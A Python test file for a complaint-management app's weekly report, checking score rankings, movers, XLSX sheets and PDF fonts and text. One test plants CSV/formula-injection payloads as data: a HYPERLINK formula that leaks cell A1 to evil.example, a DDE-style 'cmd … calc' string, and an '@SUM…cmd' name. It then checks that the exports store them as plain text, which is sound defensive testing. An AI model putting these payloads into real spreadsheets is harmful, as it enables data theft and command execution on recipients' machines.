"""The weekly review report from two frozen demo weeks: totals and change, best/worst, movers,
early warnings, and the XLSX (four sheets) and PDF (Chinese text in a CID font) downloads."""

import io
import re
from datetime import UTC, date, datetime

import openpyxl
from sqlmodel import select

from complaint_console.db import score_table
from complaint_console.db.models import Ticket, TypicalCase
from complaint_console.services import reports
from complaint_console.services.rollup import freeze_week
from seeds import demo

DEMO_NOW = datetime(2026, 11, 23, 4, 0, tzinfo=UTC)
WEEK, BEFORE = date(2026, 11, 16), date(2026, 11, 9)


def test_a_weekly_report_shows_change_movers_and_downloads(db):
    demo.load(db, DEMO_NOW)
    assert freeze_week(db, BEFORE, DEMO_NOW) and freeze_week(db, WEEK, DEMO_NOW)
    assert [w for w, _ in reports.report_weeks(db)] == [WEEK, BEFORE]  # newest first
    report = reports.load_report(db, WEEK, DEMO_NOW)
    assert report.change("score") == report.network("score") - report.previous["network"]["score"]
    assert len(report.best) == len(report.worst) == 10
    assert [r.rank for r in report.best] == sorted(r.rank for r in report.best) and report.best[0].rank == 1
    assert report.worst[0].score <= report.worst[-1].score
    assert all(r.change > 0 for r in report.risers) and all(r.change < 0 for r in report.fallers)
    assert report.risers and report.fallers
    assert report.risers[0].change == max(r.change for r in report.risers)
    every, _ = score_table.score_table(db, score_table.TableQuery(WEEK), size=None)  # the lists, worked out plainly
    moved = [r for r in every if not r.insufficient and r.change is not None]
    assert [r.code for r in report.fallers] == [
        r.code for r in sorted((r for r in moved if r.change < 0), key=lambda r: (r.change, r.code))
    ][:10]
    assert [r.code for r in report.worst] == [
        r.code for r in sorted((r for r in every if r.rank), key=lambda r: (-r.rank, r.code))
    ][:10]
    assert [r.code for r in report.warnings] == sorted(r.code for r in every if r.warning and not r.insufficient)
    assert reports.load_report(db, date(2026, 10, 5), DEMO_NOW) is None

    assert report.cases == []  # nobody picked a case yet
    ticket = db.exec(select(Ticket).where(Ticket.outlet_id.is_not(None)).limit(1)).one()
    db.add(TypicalCase(ticket_id=ticket.id, week_start=WEEK, title="Missed callback", practice="bad", lesson="Call back."))
    db.commit()
    report = reports.load_report(db, WEEK, DEMO_NOW)
    assert [(c.number, c.title, c.practice) for c in report.cases] == [(ticket.number, "Missed callback", "bad")]

    book = openpyxl.load_workbook(io.BytesIO(reports.report_xlsx(db, report, DEMO_NOW)))
    assert book.sheetnames == ["summary", "outlets", "missed tickets", "cases"]
    assert book["outlets"].max_row == 61
    assert book["missed tickets"].max_row > 1
    assert [c.value for c in book["cases"][2]][:2] == [ticket.number, "Missed callback"]

    pdf = reports.report_pdf(db, report, DEMO_NOW, "zh")
    assert pdf.startswith(b"%PDF") and len(pdf) > 20_000
    assert_fonts_embedded(pdf)
    # five charts as images: score distribution, 12-week trend, SLA compliance, categories, channels
    images = re.findall(rb"<<[^<>]*/ColorSpace /DeviceRGB[^<>]*/Subtype /Image[^<>]*>>", pdf)  # not their alpha masks
    assert len(images) == 5


def test_formula_like_text_in_every_spreadsheet_export_is_text(db):
    """A case title, or an outlet name, typed as a formula is shown as typed, never evaluated."""
    from complaint_console.db import score_table
    from complaint_console.db.models import Outlet
    from complaint_console.views import score_export

    demo.load(db, DEMO_NOW)
    assert freeze_week(db, WEEK, DEMO_NOW)
    ticket = db.exec(select(Ticket).where(Ticket.outlet_id.is_not(None)).limit(1)).one()
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    db.add(TypicalCase(ticket_id=ticket.id, week_start=WEEK, title=attack, practice="bad", lesson="+cmd|' /C calc'!A0"))
    outlet = db.get(Outlet, ticket.outlet_id)
    outlet.name = "@SUM(1+1)*cmd"
    db.add(outlet)
    db.commit()
    report = reports.load_report(db, WEEK, DEMO_NOW)

    book = openpyxl.load_workbook(io.BytesIO(reports.report_xlsx(db, report, DEMO_NOW)))
    title, lesson = book["cases"]["B2"], book["cases"]["D2"]
    assert (title.value, title.data_type, title.quotePrefix) == (attack, "s", True)
    assert (lesson.value, lesson.data_type) == ("+cmd|' /C calc'!A0", "s")
    names = [c for c in book["outlets"]["C"] if c.value == "@SUM(1+1)*cmd"]
    assert names and all(c.data_type == "s" for c in names)
    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []

    rows, _ = score_table.score_table(db, score_table.TableQuery(WEEK), size=None)
    sheet = openpyxl.load_workbook(io.BytesIO(score_export.to_xlsx(rows, "t"))).active
    assert [c.data_type for c in sheet["C"] if c.value == "@SUM(1+1)*cmd"] == ["s"]
    assert "'@SUM(1+1)*cmd" in score_export.to_csv(rows).decode("utf-8-sig")


def assert_fonts_embedded(pdf: bytes) -> None:
    """Every font the PDF uses is embedded (a font file in the document, not a name the reader must have)."""
    from pypdf import PdfReader

    fonts = {}
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for _name, ref in (page["/Resources"].get("/Font") or {}).items():
            font = ref.get_object()
            descendants = font.get("/DescendantFonts")
            descriptor = (descendants[0].get_object() if descendants else font).get("/FontDescriptor")
            fonts[font["/BaseFont"]] = descriptor is not None and any(
                k in descriptor.get_object() for k in ("/FontFile", "/FontFile2", "/FontFile3")
            )
    assert fonts and all(fonts.values()), fonts


def test_every_pdf_part_embeds_its_font_numbers_its_pages_and_prints_chinese(db, tmp_path):
    import shutil
    import subprocess

    from pypdf import PdfReader

    from tests.e2e.conftest import SHOTS

    demo.load(db, DEMO_NOW)
    assert freeze_week(db, BEFORE, DEMO_NOW) and freeze_week(db, WEEK, DEMO_NOW)
    report = reports.load_report(db, WEEK, DEMO_NOW)
    for lang in ("zh", "en"):
        pdf = reports.report_pdf(db, report, DEMO_NOW, lang)
        assert_fonts_embedded(pdf)
        pages = PdfReader(io.BytesIO(pdf)).pages
        assert f"{WEEK.isoformat()} | {len(pages)}" in pages[-1].extract_text()  # numbered
        text = "\n".join(p.extract_text() for p in pages)
        assert ("周报" if lang == "zh" else "Weekly report") in text and "EAST-0" in text and "NORTH-0" in text  # regions
        if shutil.which("pdftoppm"):  # the first page as a reader sees it
            SHOTS.mkdir(parents=True, exist_ok=True)
            (tmp_path / "r.pdf").write_bytes(pdf)
            subprocess.run(
                [
                    "pdftoppm",
                    "-r",
                    "70",
                    "-png",
                    "-f",
                    "1",
                    "-l",
                    "1",
                    "-singlefile",
                    str(tmp_path / "r.pdf"),
                    str(SHOTS / f"report-pdf-{lang}"),
                ],
                check=True,
            )
    part = reports.report_pdf(db, reports.Report(WEEK, {}, None), DEMO_NOW, "zh", region="SOUTH")
    assert_fonts_embedded(part)
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(part)).pages)
    assert "华南" in text and "SOUTH-0" in text and "EAST-0" not in text
